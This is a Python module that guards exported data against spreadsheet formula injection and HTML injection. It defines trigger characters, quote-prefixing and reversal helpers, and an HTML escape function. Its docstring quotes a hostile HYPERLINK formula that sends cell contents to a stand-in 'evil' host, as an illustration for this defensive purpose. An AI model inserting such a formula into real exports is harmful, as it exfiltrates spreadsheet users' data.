"""Keeping exported values inert: spreadsheet formula injection and HTML/JSON escaping.

A business name scraped from the web is attacker-controlled text. Opened in a spreadsheet,
a cell such as `=HYPERLINK("http://evil/?"&A1, "click")` runs as a formula; written raw into
an HTML page, `<script>` runs as code. These pure functions make every exported value data.
"""

from __future__ import annotations

import html
from typing import Any

# OWASP "CSV Injection": a cell starting with one of these may be read as a formula (tab and
# carriage return because some spreadsheets strip them and then see the next character).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _looks_neutralised_or_triggering(value: str) -> bool:
    """Starts with a trigger, possibly behind quotes ("=x", "'=x", "''=x")."""
    return value.lstrip("'").startswith(FORMULA_TRIGGERS)


def neutralise_formula(value: str) -> str:
    """Prefix a text value that a spreadsheet could read as a formula with a single quote.

    Applied to text only: numeric columns are written as numbers, so `-3.5` stays a number.
    A value that already starts with quotes before a trigger gets one more, so that
    `strip_neutralising_quote` gives every value back exactly.
    """
    if value and _looks_neutralised_or_triggering(value):
        return "'" + value
    return value


def strip_neutralising_quote(value: str) -> str:
    """Undo `neutralise_formula` when reading an export back (review import)."""
    if value.startswith("'") and _looks_neutralised_or_triggering(value[1:]):
        return value[1:]
    return value


def esc(value: Any) -> str:
    """Escape any value for HTML text or a double-quoted attribute; None becomes ''."""
    if value is None:
        return ""
    return html.escape(str(value), quote=True)

